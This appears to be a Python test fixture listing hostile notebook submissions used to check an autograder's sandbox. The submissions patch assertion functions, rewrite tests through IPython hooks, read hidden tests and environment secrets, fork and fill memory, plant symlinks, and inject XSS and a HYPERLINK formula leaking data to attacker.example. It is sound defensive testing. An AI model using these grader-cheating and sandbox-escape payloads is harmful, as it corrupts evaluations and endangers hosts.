"""The attack corpus: submissions that try to earn marks they do not deserve, break out
of their sandbox, or stop the batch, each with the result it must get.

Every attack is a module-01 submission whose answers are the reference solutions,
except that ``perceptron_predict`` (the *target*) is wrong, and the attack tries to
make that wrong answer pass anyway, or to harm the grading. ``ATTACKS[name]`` is
``(build, expect)``: ``build(nb)`` turns the honest notebook into the attack (or
returns raw text for a file that is not a notebook, or a ``Layout`` of files and links
for the student's folder), and ``expect`` maps exercises to the status they must get
(``"other"`` is every exercise not named). ``STUDENT`` names the attacks whose student
folder has a name of its own (else it is the attack's name, slugged).

Text may name places the test makes: ``@ROOT@`` (the repository), ``@OUT@`` (the
grader's --out), ``@SUBS@`` (the submissions folder) and ``@CANARY@`` (a file on the
host outside both, which no submission may change or read).
"""
import json

import nbformat

from autograder.notebooks import is_answer_cell, is_test_cell, nbgrader_meta
from autograder.pipeline import ROOT

TARGET = "perceptron_predict"
WRONG = "def perceptron_predict(X, w, b):\n    return (X @ w + b >= 0).astype(int)\n"
#: Files the attacks try to create or change outside their sandbox (relative to the
#: course root); the test checks that none exists or changed after grading.
CANARY = "PWNED-by-a-submission.txt"
#: A value the test puts in the grader's environment: it must appear in no output.
SECRET_ENV = "COURSE_TEST_GRADER_SECRET"


class Layout(dict):
    """Files of a student's folder, by path relative to it: text, or ``Link(target)``.
    The key ``""`` makes the student's folder itself a link."""


class Link(str):
    """A symbolic link's target."""


def _answer(nb, name):
    return next(c for c in nb.cells if is_answer_cell(c) and nbgrader_meta(c)["grade_id"] == name)


def _target(code):
    """The attack puts ``code`` in the target's answer cell."""
    def build(nb):
        _answer(nb, TARGET).source = code
        return nb
    return build


def _added(code, locked=False, honest=False):
    """The attack adds a cell of its own before the target's answer."""
    def build(nb):
        if not honest:
            _answer(nb, TARGET).source = WRONG
        cell = nbformat.v4.new_code_cell(code)
        if locked:  # dressed up as an instructor's cell, to dodge the checks
            cell.metadata["nbgrader"] = {"grade": False, "grade_id": "cell-0123456789abcdef",
                                         "locked": True, "schema_version": 3, "solution": False,
                                         "task": False}
        index = nb.cells.index(_answer(nb, TARGET))
        nb.cells.insert(index, cell)
        return nb
    return build


def _edit_tests(how):
    def build(nb):
        _answer(nb, TARGET).source = WRONG
        mine = [c for c in nb.cells if is_test_cell(c)
                and nbgrader_meta(c)["grade_id"].startswith(f"test_{TARGET}")]
        for cell in mine:
            if how == "delete":
                nb.cells.remove(cell)
            else:
                cell.source = "pass"
        return nb
    return build


def _not_json(_nb):
    return '{"cells": [ {"cell_type": "code", this is not json'


def _old_nbformat(nb):
    from nbformat import v3

    return v3.writes_json(nbformat.convert(nb, 3))


def _no_metadata(nb):
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    _answer_free = [c for c in nb.cells if c.cell_type == "code"
                    and c.source.startswith("def perceptron_predict")]
    for cell in _answer_free:
        cell.source = WRONG
    return nb


def _no_cells(nb):
    nb.cells = []
    return nb


def _wrong_unless(condition_code):
    """A target answer that is right only if ``condition_code`` (run inside it) succeeds:
    it earns the mark exactly when the attack reached what it must not."""
    return _target(
        "import numpy as np\n"
        "def perceptron_predict(X, w, b):\n"
        "    try:\n"
        + "".join(f"        {line}\n" for line in condition_code.splitlines()) +
        "        return (X @ w + b > 0).astype(int)\n"
        "    except Exception:\n"
        "        return (X @ w + b >= 0).astype(int)\n")


def _dies(times, answered=False):
    """``times`` cells that end the kernel, before the first answer; the notebook is the
    unanswered release unless ``answered``."""
    def build(nb):
        if not answered:
            from autograder.pipeline import RELEASE

            nb = nbformat.read(RELEASE / "01_perceptron" / "01_perceptron.ipynb", as_version=4)
        first = next(i for i, c in enumerate(nb.cells) if is_answer_cell(c))
        for _ in range(times):
            nb.cells.insert(first, nbformat.v4.new_code_cell("import os; os._exit(0)"))
        return nb
    return build


def _as_markdown(code):
    """The target's answer cell handed in as markdown, holding ``code``."""
    def build(nb):
        cell = _answer(nb, TARGET)
        made = nbformat.v4.new_markdown_cell(code)
        made.metadata = cell.metadata
        nb.cells[nb.cells.index(cell)] = made
        return nb
    return build


def _notebook_link(target):
    def build(_nb):
        return Layout({"01_perceptron/01_perceptron.ipynb": Link(target)})
    return build


def _student_link(target):
    def build(_nb):
        return Layout({"": Link(target)})
    return build


def _links_beside(nb):
    _answer(nb, TARGET).source = WRONG
    return Layout({"01_perceptron/01_perceptron.ipynb": nbformat.writes(nb),
                   "01_perceptron/gradebook.db": Link("@OUT@/gradebook.db"),
                   "01_perceptron/source.ipynb.txt": Link("@ROOT@/source/01_perceptron/01_perceptron.ipynb"),
                   "01_perceptron/canary": Link("@CANARY@"),
                   "01_perceptron/etc": Link("/etc")})


def _text_edit(old, new):
    """The honest notebook's JSON text with ``old`` replaced (once) by ``new``."""
    def build(nb):
        _answer(nb, TARGET).source = WRONG
        text = nbformat.writes(nb)
        assert old in text
        return text.replace(old, new, 1)
    return build


def _nested_metadata(nb):
    text = nbformat.writes(nb)
    deep = "[" * 100_000 + "]" * 100_000
    return text.replace('"metadata": {', f'"metadata": {{"deep": {deep}, ', 1)


def _star_student(nb):
    _answer(nb, TARGET).source = WRONG
    return nb


#: Code that, run unchecked, makes every test cell pass: it turns the guard off and cuts
#: each test cell down to the guard's first and last lines.
UNCHECKED_PAYLOAD = (
    "import autograder.guard as g\n"
    "g._problems = lambda: []\n"
    "def _only_guard_lines(lines):\n"
    "    if lines and lines[0].startswith('__course_guard__.check('):\n"
    "        return [lines[0], lines[-1]]\n"
    "    return lines\n"
    "get_ipython().input_transformers_post.append(_only_guard_lines)\n")


def _cells_before(*codes):
    """Cells of the attack's own before the target's (wrong) answer."""
    def build(nb):
        _answer(nb, TARGET).source = WRONG
        index = nb.cells.index(_answer(nb, TARGET))
        for code in reversed(codes):
            nb.cells.insert(index, nbformat.v4.new_code_cell(code))
        return nb
    return build


def _cgroups():
    """Whether the sandbox's memory budget holds for the whole sandbox here (cgroups, as
    root in CI); elsewhere it is per process (ARCHITECTURE.md)."""
    from autograder.sandbox import cgroups_available

    return cgroups_available()


def _reuses_test_id(nb):
    """A cell with the grade id of the target's real test cell, placed before it."""
    _answer(nb, TARGET).source = WRONG
    test = next(c for c in nb.cells if is_test_cell(c)
                and nbgrader_meta(c)["grade_id"].startswith(f"test_{TARGET}"))
    fake = nbformat.v4.new_code_cell(UNCHECKED_PAYLOAD)
    fake.metadata["nbgrader"] = dict(nbgrader_meta(test))
    nb.cells.insert(nb.cells.index(_answer(nb, TARGET)), fake)
    return nb


#: Learner markup that must not run (or show as markup) in the feedback page.
FEEDBACK_MARKUP = ('<div id="fake-banner" style="position:fixed;top:0;left:0;z-index:9999">'
                   'Score: 9.0 / 9.0</div><script>document.title = "xss-ran"</script>'
                   '<img src=x onerror="document.body.dataset.pwned=1">')

REJECTED = {TARGET: "rejected", "other": "passed"}
FAILED = {TARGET: "failed", "other": "passed"}
# Once a library function is replaced, no later test can trust it: all fail.
TAMPERED = {"other": "failed"}

ATTACKS = {
    # -- raising one's own grade inside the kernel ---------------------------------------
    "patches the course's checks": (_target(
        "import course.checks as cc\n"
        "for name in ('assert_equal', 'assert_close', 'assert_shape', 'assert_dtype_kind'):\n"
        "    pass\n"
        "cc.assert_equal = lambda *a, **k: None\ncc.assert_close = lambda *a, **k: None\n"
        + WRONG), TAMPERED),
    "patches numpy's comparisons through an alias": (_target(
        "import numpy as np\nq = np\nq.array_equal = lambda *a, **k: True\n"
        "q.allclose = lambda *a, **k: True\nq.testing.assert_array_equal = lambda *a, **k: None\n"
        + WRONG), TAMPERED),
    "patches the checks while the test calls it": (_target(
        "import numpy as np\nimport course.checks as cc\n"
        "def perceptron_predict(X, w, b):\n"
        "    cc.assert_equal = lambda *a, **k: None\n    np.array_equal = lambda *a, **k: True\n"
        "    return (X @ w + b >= 0).astype(int)\n"), TAMPERED),
    "swallows errors with IPython's exception handler": (_target(
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\n" + WRONG), REJECTED),
    "rewrites the tests with an input transformer": (_target(
        "ip = get_ipython\nip().input_transformers_post.append(lambda lines: ['pass\\n'])\n"
        + WRONG), REJECTED),
    "rewrites the tests with an AST transformer": (_target(
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node):\n"
        "        return None\nget_ipython().ast_transformers.append(Drop())\n" + WRONG), REJECTED),
    "shadows isinstance and AssertionError": (_target(
        "def isinstance(a, b):\n    return True\nAssertionError = ValueError\n" + WRONG), REJECTED),
    "reaches sys through a package attribute": (_target(
        "import numpy as np\nmods = np.testing.sys.modules\n"
        "mods['course.checks'].assert_equal = lambda *a, **k: None\n" + WRONG), REJECTED),
    "hides a patch in a cell dressed as the instructor's": (_added(
        "import course.checks as cc\ncc.assert_equal = lambda *a, **k: None\n", locked=True),
        TAMPERED),
    "reads its own test cell's source from IPython's history": (_target(
        "def perceptron_predict(X, w, b):\n    print(In[-1])\n    return (X @ w + b >= 0).astype(int)\n"),
        REJECTED),
    "calls the hidden reference its test defines": (_target(
        "import numpy as np\ndef perceptron_predict(X, w, b):\n    try:\n"
        "        return _ref_predict(X, w, b)\n    except NameError:  # the visible test, hard-coded\n"
        "        return np.array([0, 1, 0, 0]) if len(X) == 4 else (X @ w + b >= 0).astype(int)\n"),
        REJECTED),
    "rebinds the test's checks from inside the function": (_target(
        "def perceptron_predict(X, w, b):\n"
        "    global assert_equal, assert_shape, assert_dtype_kind, _check\n"
        "    assert_equal = assert_shape = assert_dtype_kind = _check = lambda *a, **k: None\n"
        "    return (X @ w + b >= 0).astype(int)\n"), REJECTED),
    "imports a numpy of its own making as np": (_target(
        "open('mynp.py', 'w').write('from numpy import *\\narray_equal = lambda *a, **k: True\\n')\n"
        "import mynp as np\n" + WRONG), FAILED),  # the test imports numpy itself: harmless
    "returns an object that equals anything": (_target(
        "import numpy as np\nclass Agree(np.ndarray):\n    def __eq__(self, other):\n"
        "        return np.ones(np.shape(other), dtype=bool)\n"
        "def perceptron_predict(X, w, b):\n"
        "    return (X @ w + b >= 0).astype(int).view(Agree)\n"), REJECTED),
    "deletes its test cells": (_edit_tests("delete"), FAILED),
    "empties its test cells": (_edit_tests("empty"), FAILED),
    # -- reaching outside the sandbox ------------------------------------------------------
    "reads the hidden tests in source/": (_wrong_unless(
        f"assert 'BEGIN HIDDEN' in open({str(ROOT / 'source/01_perceptron/01_perceptron.ipynb')!r}).read()"),
        FAILED),
    "reads the other students' notebooks": (_wrong_unless(
        "import glob, os\nown = os.path.realpath('01_perceptron.ipynb')\n"
        "seen = glob.glob('../../../*/*/01_perceptron/*.ipynb') + glob.glob('../../*/01_perceptron/*.ipynb')\n"
        "assert {os.path.realpath(f) for f in seen} - {own}"), FAILED),
    "writes into the course": (_wrong_unless(
        f"open({str(ROOT / CANARY)!r}, 'w').write('x')\n"
        f"open({str(ROOT / 'course' / 'checks.py')!r}, 'a').write('\\n')"), FAILED),
    "uses the network": (_wrong_unless(
        "import urllib.request\nurllib.request.urlopen('https://pypi.org', timeout=5)"), FAILED),
    # -- faults that must not stop the batch -------------------------------------------------
    "loops forever": (_target("while True:\n    pass\n"), FAILED),
    "exits the kernel": (_target("import os\nos._exit(3)\n"), FAILED),
    "crashes the kernel inside the test": (_target(
        "import os\ndef perceptron_predict(X, w, b):\n"
        "    os.kill(os.getpid(), 11)  # SIGSEGV\n"), FAILED),
    "exhausts memory": (_target(
        "import numpy as np\nhog = []\nwhile True:\n    hog.append(np.ones(1 << 28, dtype=np.uint8))\n"
        + WRONG), FAILED),
    "floods the output": (_target(
        "for _ in range(200_000):\n    print('x' * 100)\n" + WRONG), FAILED),
    "asks for input": (_target("name = input('your name? ')\n" + WRONG), REJECTED),
    "starts threads": (_target("import threading\n" + WRONG), REJECTED),
    "shows a widget": (_added("import ipywidgets as w\nw.IntSlider(3)\n", honest=True),
                       {"other": "passed"}),
    "dies six times before its first answer": (_dies(6), {"other": "failed"}),
    "dies six times before honest answers": (_dies(6, answered=True), {"other": "failed"}),
    "writes a byte that is not UTF-8 to its output": (_target(
        "import os\nos.write(1, b'\\xff')\nos.write(2, b'\\xfe\\xff')\nprint('\\udcff')\n"
        + WRONG), FAILED),
    "writes 400 MB to file descriptor 1": (_target(
        "import os\nchunk = b'x' * (1 << 20)\nfor _ in range(400):\n    os.write(1, chunk)\n"
        + WRONG), FAILED),
    "starts as many processes as it can": (_wrong_unless(
        "import os, time\nkids = []\nfor _ in range(3000):\n    pid = os.fork()\n"
        "    if pid == 0:\n        time.sleep(20)\n        os._exit(0)\n    kids.append(pid)\n"
        "assert len(kids) >= 3000"), FAILED),
    # -- scored from an output of its own ---------------------------------------------------
    "makes its test cell's first output an execute_result": (_target(
        "import ipywidgets\nshell = ipywidgets.get_ipython()\n"
        "def perceptron_predict(X, w, b):\n    shell.run_cell('1.0')\n"
        "    return (X @ w + b >= 0).astype(int)\n"), FAILED),
    "hands its answer in as markdown": (_as_markdown(
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\n" + WRONG), REJECTED),
    # -- the grader's powers and environment --------------------------------------------------
    "has root's powers in the sandbox": (_wrong_unless(
        "import os\nstatus = open('/proc/self/status').read()\n"
        "caps = [int(l.split()[1], 16) for l in status.splitlines() if l.startswith('Cap')]\n"
        "assert os.getuid() == 0 or os.getgid() == 0 or any(caps)"), FAILED),
    "remounts the packages writable": (_wrong_unless(
        "import os\n"
        "os.system('mount -o remount,rw,bind @ROOT@/course 2>/dev/null; "
        "mount -o remount,rw,bind / 2>/dev/null')\n"
        f"open('@ROOT@/course/{CANARY}', 'w').write('x')"), FAILED),
    "prints the grader's environment": (_wrong_unless(
        "import os\nprint(dict(os.environ))\n"
        "try:\n    print(open('/proc/1/environ').read())\nexcept OSError:\n    pass\n"
        f"assert {SECRET_ENV!r} in os.environ"), FAILED),
    # -- links and files on the host ---------------------------------------------------------
    "is a link into source/": (_notebook_link("@ROOT@/source/01_perceptron/01_perceptron.ipynb"),
                              {"other": "invalid"}),
    "is a link to another student's notebook": (_notebook_link(
        "@SUBS@/honest/01_perceptron/01_perceptron.ipynb"), {"other": "invalid"}),
    "is a link to the gradebook": (_notebook_link("@OUT@/gradebook.db"), {"other": "invalid"}),
    "is a link to a host file": (_notebook_link("@CANARY@"), {"other": "invalid"}),
    "has a student folder that is a link": (_student_link("@SUBS@/honest"), {"other": "invalid"}),
    "leaves links beside its notebook": (_links_beside, FAILED),
    "makes links and files where it runs": (_target(
        "import os\n"
        "os.symlink('@ROOT@/source/01_perceptron/01_perceptron.ipynb', 'copied-source.ipynb')\n"
        "os.symlink('@OUT@/gradebook.db', 'gradebook.db')\nos.symlink('@CANARY@', 'canary')\n"
        "open('kept.txt', 'w').write('x' * 1000)\n" + WRONG), FAILED),
    "fills /tmp past its memory": (_wrong_unless(
        "with open('/tmp/fill', 'wb') as fh:\n"
        "    for _ in range(1200):\n        fh.write(b'x' * (1 << 20))"), FAILED),
    "fills /dev/shm past its memory": (_wrong_unless(
        "with open('/dev/shm/fill', 'wb') as fh:\n"
        "    for _ in range(1200):\n        fh.write(b'x' * (1 << 20))"), FAILED),
    "fills its working folder": (_wrong_unless(
        "with open('fill', 'wb') as fh:\n"
        "    for _ in range(1200):\n        fh.write(b'x' * (1 << 20))"), FAILED),
    # -- submissions that stopped the whole class -------------------------------------------
    "nests 100,000 brackets in its metadata": (_nested_metadata, {"other": "invalid"}),
    "holds a lone surrogate": (_text_edit(
        "def perceptron_predict", "# \\ud800\\ndef perceptron_predict"), {"other": "invalid"}),
    "chains 200,000 attributes": (_target("x = np" + ".T" * 200_000 + "\n" + WRONG), REJECTED),
    "chains 30,000 attributes": (_target("x = np" + ".T" * 30_000 + "\n" + WRONG), REJECTED),
    "has 501 %time lines": (_target("%time\n" * 501 + WRONG), REJECTED),
    "has a 0.6 MB cell of magics": (_target("%ls\n" * 150_000 + WRONG), REJECTED),
    "sits in a student folder named *": (_star_student, {"other": "invalid"}),
    # -- what the policy checks is what runs -------------------------------------------------
    "runs a file it wrote through automagic": (_cells_before(
        f"open('x.py', 'w').write({UNCHECKED_PAYLOAD!r})", "run x.py"), FAILED),
    "loads an extension it wrote through automagic": (_cells_before(
        "open('xext.py', 'w').write("
        + repr("def load_ipython_extension(ip):\n"
               + "".join(f"    {ln}\n" for ln in UNCHECKED_PAYLOAD.splitlines())) + ")",
        "load_ext xext"), FAILED),
    "answers in a line automagic would run": (_target("run x.py\n"), REJECTED),
    "reuses a test cell's grade id": (_reuses_test_id, FAILED),
    # -- the host, the budgets and the feedback --------------------------------------------------
    "writes into its socket folder on the host": (_wrong_unless(
        "import glob\nfolders = glob.glob('/tmp/**/course-sandbox-*', recursive=True)\n"
        "open(folders[0] + '/fill', 'w').write('x')"), FAILED),
    "raises errors of 25 MB": (_cells_before(*["raise ValueError('k' * 25_000_000)"] * 4),
                               FAILED),
    "updates displays with 30 MB": (_cells_before(
        "handles = [display('small', display_id=f'd{k}') for k in range(3)]\n"
        "for k, h in enumerate(handles):\n    h.update(str(k) * 30_000_000)"), FAILED),
    **({} if not _cgroups() else {"forks past its memory": (_wrong_unless(
        "import os, time\nkids = []\n"
        "for _ in range(4):\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        hog = bytearray(600 * 2**20)\n"
        "        for i in range(0, len(hog), 4096):\n            hog[i] = 1\n"
        "        time.sleep(3)\n        os._exit(0)\n"
        "    kids.append(pid)\n"
        "codes = [os.waitpid(pid, 0)[1] for pid in kids]\n"
        "assert all(code == 0 for code in codes), codes"), FAILED)}),
    "puts markup and a formula in its feedback": (_target(
        "class E(Exception):\n    pass\n"
        "E.__name__ = '=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"details\")'\n"
        f"display({{'text/html': {FEEDBACK_MARKUP!r}, 'text/plain': 'x'}}, raw=True)\n"
        "def perceptron_predict(X, w, b):\n    raise E('see details')\n"), FAILED),
    # -- malformed notebooks ---------------------------------------------------------------
    "is not JSON": (_not_json, {"other": "invalid"}),
    "is an old nbformat (v3)": (_old_nbformat, {TARGET: "passed", "other": "passed"}),
    "lost its nbgrader metadata": (_no_metadata, FAILED),
    "has no cells": (_no_cells, {"other": "failed"}),
}


#: Attacks whose student folder is not named after the attack.
STUDENT = {"sits in a student folder named *": "*"}


def build(name, honest):
    """The attack's files: a ``Layout`` (a notebook's text alone is the module's notebook)."""
    made = ATTACKS[name][0](nbformat.from_dict(json.loads(json.dumps(honest))))
    if isinstance(made, Layout):
        return made
    return Layout({"01_perceptron/01_perceptron.ipynb":
                   made if isinstance(made, str) else nbformat.writes(made)})


def expected(name, exercise):
    expect = ATTACKS[name][1]
    return expect.get(exercise, expect["other"])
